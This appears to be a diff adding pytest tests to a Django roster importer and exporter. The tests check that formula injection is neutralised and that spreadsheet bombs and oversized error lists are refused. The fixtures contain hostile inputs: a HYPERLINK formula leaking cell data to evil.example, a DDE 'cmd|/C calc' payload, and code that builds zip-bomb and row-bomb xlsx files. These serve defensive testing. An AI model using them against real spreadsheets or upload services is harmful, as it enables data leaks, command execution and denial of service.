@@ -1,6 +1,9 @@
 """Roster import: dry run, apply, idempotence, per-row Chinese errors, all-or-nothing."""
 
 import io
+import re
+import time
+import zipfile
 
 import openpyxl
 import pytest
@@ -8,7 +11,7 @@ from django.contrib.auth.models import Group
 from django.core.management import CommandError, call_command
 from wagtail.models import Revision
 
-from delegates.importer import RosterImporter, import_roster, read_tables
+from delegates.importer import ImportFileError, RosterImporter, import_roster, read_tables
 from delegates.models import DelegatePage, ReceptionSession, StationMembership, StationPage
 
 STATIONS = [
@@ -339,6 +342,38 @@ def test_export_round_trips_through_import(indexes, admin_client, make_session):
 
 
 @pytest.mark.django_db
+def test_export_writes_formula_like_text_as_text(indexes):
+    """A title such as =HYPERLINK(...) is exported as a text cell, not as a formula that Excel
+    would run, and imports back unchanged."""
+    import zipfile
+
+    from delegates.exporter import export_xlsx
+
+    formula = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
+    station = list(STATIONS[1])
+    station[1], station[4], station[10] = formula, "+1+cmd|' /C calc'!A0", "@SUM(1)"
+    report = import_roster(csv_bytes([STATIONS[0], station]), "stations.csv", apply=True)
+    assert report.ok, report.errors
+    assert StationPage.objects.get(code="JB-T-01").title == formula
+
+    exported = export_xlsx()
+    sheet = openpyxl.load_workbook(io.BytesIO(exported))["联络站"]
+    cells = {sheet.cell(1, col).value: sheet.cell(2, col) for col in range(1, sheet.max_column + 1)}
+    for header, value in [("名称", formula), ("地址", station[4]), ("联络员", "@SUM(1)")]:
+        assert cells[header].value == value
+        assert cells[header].data_type == "s", header
+    assert cells["纬度"].data_type == "n" and cells["纬度"].value == 30.8712
+    with zipfile.ZipFile(io.BytesIO(exported)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
+
+    tables = {t.kind: t for t in read_tables(exported, "roster.xlsx")}
+    assert tables["stations"].rows[0][1]["title"] == formula
+    report = import_roster(exported, "roster.xlsx", apply=True)
+    assert report.ok and report.changes == 0, report.actions
+
+
+@pytest.mark.django_db
 def test_levels_may_carry_their_own_term(indexes):
     delegates = [
         DELEGATES[0],
@@ -364,3 +399,140 @@ def test_levels_may_carry_their_own_term(indexes):
     )
     roles = DelegatePage.objects.get(code="D-0009").roles.order_by("sort_order")
     assert [(r.level, r.term) for r in roles] == [("county", "第十六届"), ("township", "第十八届")]
+
+
+# -- spreadsheet bombs and huge reports ---------------------------------------------------
+
+
+def xlsx_with_rows(rows_xml: str, last_row: int) -> bytes:
+    """A real workbook (one sheet 联络站) whose sheet XML is replaced by `rows_xml`."""
+    book = openpyxl.Workbook()
+    book.active.title = "联络站"
+    book.active.append(["站点编号"])
+    source = io.BytesIO()
+    book.save(source)
+    out = io.BytesIO()
+    with zipfile.ZipFile(source) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            data = src.read(info.filename)
+            if info.filename == "xl/worksheets/sheet1.xml":
+                xml = data.decode()
+                xml = re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="A1:M{last_row}"', xml)
+                xml = re.sub(r"<sheetData>.*</sheetData>|<sheetData ?/>", "<sheetData/>", xml)
+                data = xml.replace("<sheetData/>", f"<sheetData>{rows_xml}</sheetData>").encode()
+            dst.writestr(info.filename, data)
+    return out.getvalue()
+
+
+def header_xml():
+    cells = "".join(
+        f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{h}</t></is></c>'
+        for i, h in enumerate(STATIONS[0])
+    )
+    return f'<row r="1">{cells}</row>'
+
+
+@pytest.mark.django_db
+def test_xlsx_row_bomb_is_refused_quickly_and_nothing_is_written(indexes, admin_client):
+    """300,000 rows in a 1.5 MB file (it expands only ~14 times, so the archive check lets it
+    through): reading stops at the row limit with a clear message, and nothing is written."""
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    rows = "".join(
+        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>JB-{n}</t></is></c></row>'
+        for n in range(2, 300_002)
+    )
+    bomb = xlsx_with_rows(header_xml() + rows, 300_001)
+    assert len(bomb) < 5 * 1024 * 1024  # within the admin's upload limit
+    started = time.monotonic()
+    with pytest.raises(ImportFileError, match="文件行数超过上限 20000 行"):
+        import_roster(bomb, "roster.xlsx", apply=True)
+    assert time.monotonic() - started < 10
+    assert counts() == (0, 0, 0, 0)
+
+    response = admin_client.post(
+        "/admin/delegates/import/", {"file": SimpleUploadedFile("roster.xlsx", bomb)}
+    )
+    assert "文件行数超过上限 20000 行" in response.content.decode()
+    assert "token" not in response.context
+    assert counts() == (0, 0, 0, 0)
+
+
+@pytest.mark.django_db
+def test_declared_sheet_size_does_not_pad_or_cut_rows(indexes):
+    """Rows far apart (1 and 1,048,576) do not turn into a million empty rows, and a
+    dimension that claims one row does not hide the rows the sheet holds."""
+    far = (
+        header_xml() + '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
+    )
+    with pytest.raises(ImportFileError, match="文件行数超过上限"):
+        read_tables(xlsx_with_rows(far, 1048576), "roster.xlsx")
+    row = "".join(
+        f'<c r="{chr(65 + i)}2" t="inlineStr"><is><t>{v}</t></is></c>'
+        for i, v in enumerate(STATIONS[1])
+    )
+    tables = read_tables(xlsx_with_rows(header_xml() + f'<row r="2">{row}</row>', 1), "r.xlsx")
+    assert [r[1]["code"] for r in tables[0].rows] == ["JB-T-01"]
+
+
+@pytest.mark.django_db
+def test_xlsx_that_expands_too_far_is_refused_before_parsing(indexes, settings, monkeypatch):
+    def must_not_parse(*args, **kwargs):
+        raise AssertionError("the workbook was parsed")
+
+    monkeypatch.setattr(openpyxl, "load_workbook", must_not_parse)
+    # A million identical rows: 50 MB of XML packed into ~150 KB.
+    dense = header_xml() + '<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 1_000_000
+    started = time.monotonic()
+    with pytest.raises(ImportFileError, match="压缩比异常"):
+        import_roster(xlsx_with_rows(dense, 1_000_001), "roster.xlsx", apply=True)
+    assert time.monotonic() - started < 5
+    settings.ROSTER_IMPORT_MAX_UNCOMPRESSED_MB = 1
+    rows = "".join(
+        f'<row r="{n}"><c r="A{n}"><v>{n * 7919}</v></c></row>' for n in range(2, 40_000)
+    )
+    with pytest.raises(ImportFileError, match="解压后超过 1 MB"):
+        read_tables(xlsx_with_rows(header_xml() + rows, 40_000), "roster.xlsx")
+    with pytest.raises(ImportFileError, match="无法打开 Excel 文件"):
+        read_tables(b"PK\x03\x04 not really a zip", "roster.xlsx")
+    assert counts() == (0, 0, 0, 0)
+
+
+@pytest.mark.django_db
+def test_row_limit_counts_the_whole_file(indexes, settings):
+    settings.ROSTER_IMPORT_MAX_ROWS = 7  # the workbook holds 2 + 2 + 2 + 1 data rows
+    assert import_roster(workbook(), "roster.xlsx").ok
+    settings.ROSTER_IMPORT_MAX_ROWS = 6
+    with pytest.raises(ImportFileError, match="文件行数超过上限 6 行"):
+        import_roster(workbook(), "roster.xlsx")
+    settings.ROSTER_IMPORT_MAX_ROWS = 1
+    with pytest.raises(ImportFileError, match="文件行数超过上限 1 行"):
+        read_tables(csv_bytes(STATIONS), "stations.csv")
+
+
+@pytest.mark.django_db
+def test_error_list_is_capped(indexes, settings, admin_client, tmp_path, capsys):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    settings.ROSTER_IMPORT_MAX_ERRORS = 3
+    bad = [STATIONS[0]] + [
+        [f"JB-B-{n:02d}", "坏站", "", "东城街道", "路", 95, 120] + [""] * 6 for n in range(10)
+    ]
+    report = import_roster(csv_bytes(bad), "bad.csv", apply=True)
+    assert not report.ok and not report.applied
+    assert len(report.errors) == 3 and report.errors_omitted == 7 and report.error_count == 10
+    assert [e.row for e in report.errors] == [2, 3, 4]
+
+    html = admin_client.post(
+        "/admin/delegates/import/", {"file": SimpleUploadedFile("bad.csv", csv_bytes(bad))}
+    ).content.decode()
+    assert "发现 10 处错误" in html and "另有 7 处错误未列出" in html
+    assert html.count("超出范围") == 3
+
+    path = tmp_path / "bad.csv"
+    path.write_bytes(csv_bytes(bad))
+    with pytest.raises(CommandError, match="共 10 处错误，未导入任何数据"):
+        call_command("import_roster", str(path), "--apply")
+    err = capsys.readouterr().err
+    assert err.count("超出范围") == 3 and "另有 7 处错误未列出" in err
+    assert counts() == (0, 0, 0, 0)
